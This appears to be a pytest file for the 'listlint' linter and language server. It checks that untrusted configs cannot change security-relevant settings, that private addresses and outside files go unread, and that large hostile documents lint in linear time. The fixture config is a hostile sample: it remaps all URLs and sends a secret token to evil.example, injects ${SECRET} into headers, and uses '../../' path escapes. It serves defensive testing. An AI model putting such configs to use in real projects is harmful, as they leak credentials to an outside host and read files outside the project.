"""What a document and a config that is not trusted cannot do, and the command."""

import asyncio
import os
import subprocess
import sys
from pathlib import Path

import pytest

from limits import hang_guard
from listlint.config.discover import ConfigError
from listlint.config.load import config_of, load_config
from listlint.links import LinkCheckOptions, LinkSettings, check_links_async
from listlint.server.configs import HARMLESS, configs_of, effective
from listlint.server.hover import hover
from listlint.server.lint import LintRequest, lint_text
from listlint.server.messages import MOST_FINDINGS, diagnostics, symbols
from listlint.server.positions import PositionMap
from listlint.server.settings import LinkMode, ServerSettings
from listlint.urls.verdict import Evidence

CONFIG = """
[links]
exclude = ["https://a.example/*"]
allow-private = true
allow-hosts = ["10.0.0.0/8"]
ca-file = "../../certificates.pem"
headers = { "a.example" = { X-Token = "${SECRET}" } }
auth = { "a.example" = "user:${SECRET}" }
remap = [{ regex = "^", to = "https://evil.example/" }]
proxy = false
cache = { path = "../../links.db" }
providers = { github = [{ api-url = "https://evil.example/", token-env = ["SECRET"] }] }
"""


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "listlint.toml"
    path.write_text(CONFIG)
    return path


def test_config_that_is_not_trusted(config: Path) -> None:
    links = effective(load_config(config), trusted=False).settings.links
    assert [pattern.glob for pattern in links.exclude] == ["https://a.example/*"]
    assert links == LinkSettings(exclude=links.exclude)
    assert set(HARMLESS).isdisjoint({"headers", "auth", "providers", "remap", "cache", "proxy"})


def test_trusted_config(config: Path) -> None:
    links = effective(load_config(config), trusted=True).settings.links
    assert links.headers
    assert links.cache.path
    assert not links.allow_private
    assert links.allow_hosts == ()


async def test_private_addresses_are_never_requested() -> None:
    requests = 0

    async def answer(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal requests
        requests += 1
        writer.close()

    given = {"allow-private": True, "allow-hosts": ["127.0.0.1"], "cache": {"enabled": False}}
    links = effective(config_of({"links": given}), trusted=True).settings.links
    async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
        url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"
        report = await check_links_async([url], LinkCheckOptions.of(links))
    assert report.verdicts[url].evidence is Evidence.PRIVATE
    assert requests == 0


@pytest.mark.parametrize("key", ["extends", "baseline"])
@pytest.mark.parametrize("place", ["/etc/other.toml", "//evil.example/share/listlint.toml"])
def test_files_of_elsewhere_are_not_read(tmp_path: Path, key: str, place: str) -> None:
    (tmp_path / "listlint.toml").write_text(f'{key} = "{place}"\n')
    request = LintRequest(
        "text\n",
        "README.md",
        tmp_path,
        tmp_path / "README.md",
        configs_of(tmp_path.resolve(), trusted=False),
        trusted=False,
    )
    assert "only a trusted config may read it" in lint_text(request).problem


def test_configs_of_the_folder_are_read(tmp_path: Path) -> None:
    (tmp_path / "base").mkdir()
    (tmp_path / "base" / "base.toml").write_text('ignore = ["typo"]\n')
    (tmp_path / "listlint.toml").write_text('extends = "base/base.toml"\n')
    folder = tmp_path.resolve()
    config = configs_of(folder, trusted=False).of(folder / "README.md")
    assert config.settings.ignore == ("typo",)
    (tmp_path / "listlint.toml").write_text('extends = "base/missing.toml"\n')
    below = configs_of(folder / "base", trusted=False)
    with pytest.raises(ConfigError, match="no such file"):
        below.of(folder / "base" / "README.md")


def test_settings_of_clients() -> None:
    default = ServerSettings()
    assert default.updated(None) == default.updated([]) == default.updated({"links": 3}) == default
    assert default.network
    assert not default.updated({"listlint": {"links": "cache"}}).network
    assert default.started({"links": "off"}).links is LinkMode.OFF
    assert not default.started({"trusted": False}).network
    assert default.started({"trusted": True}).trusted


def test_the_configuration_of_a_folder_cannot_make_it_trusted() -> None:
    started = ServerSettings().started({"trusted": False})
    assert started.updated({"listlint": {"trusted": True, "links": "save"}}) == started


def test_bugs_do_not_end_the_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def crash(*_: object) -> None:
        raise ZeroDivisionError("oops")

    monkeypatch.setattr("listlint.server.lint.lint_list", crash)
    configs = configs_of(tmp_path, trusted=False)
    request = LintRequest("text\n", "README.md", tmp_path, None, configs, trusted=False)
    assert lint_text(request).problem.startswith("internal error, please report it: ZeroDivision")


def test_command_without_pygls() -> None:
    code = (
        "import sys; sys.modules['lsprotocol'] = None; sys.argv = ['listlint', 'server'];"
        "from listlint.cli import main; main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=False, env=os.environ
    )
    message = "listlint: the language server needs pygls: pip install 'listlint[lsp]'\n"
    assert (done.returncode, done.stdout, done.stderr) == (2, "", message)


@pytest.mark.parametrize(
    "text",
    [
        "字😀 the the thing " * 6_000,
        "# 😀\n" * 6_000,
        "- [😀](htps://a.example) x " * 3_000,
        "<!-- listlint-disable typo -- x -->\n" * 6_000,
    ],
)
def test_hostile_documents_take_linear_time(tmp_path: Path, text: str) -> None:
    configs = configs_of(tmp_path, trusted=False)
    request = LintRequest(text, "README.md", tmp_path, None, configs, trusted=False)
    with hang_guard(20):
        result = lint_text(request)
        assert result.target is not None
        positions = PositionMap(text)
        assert len(diagnostics(result.findings, positions, "")) <= MOST_FINDINGS
        symbols(result.target.context, positions)
        assert hover(result, len(text) // 2) is None or "disable" in text
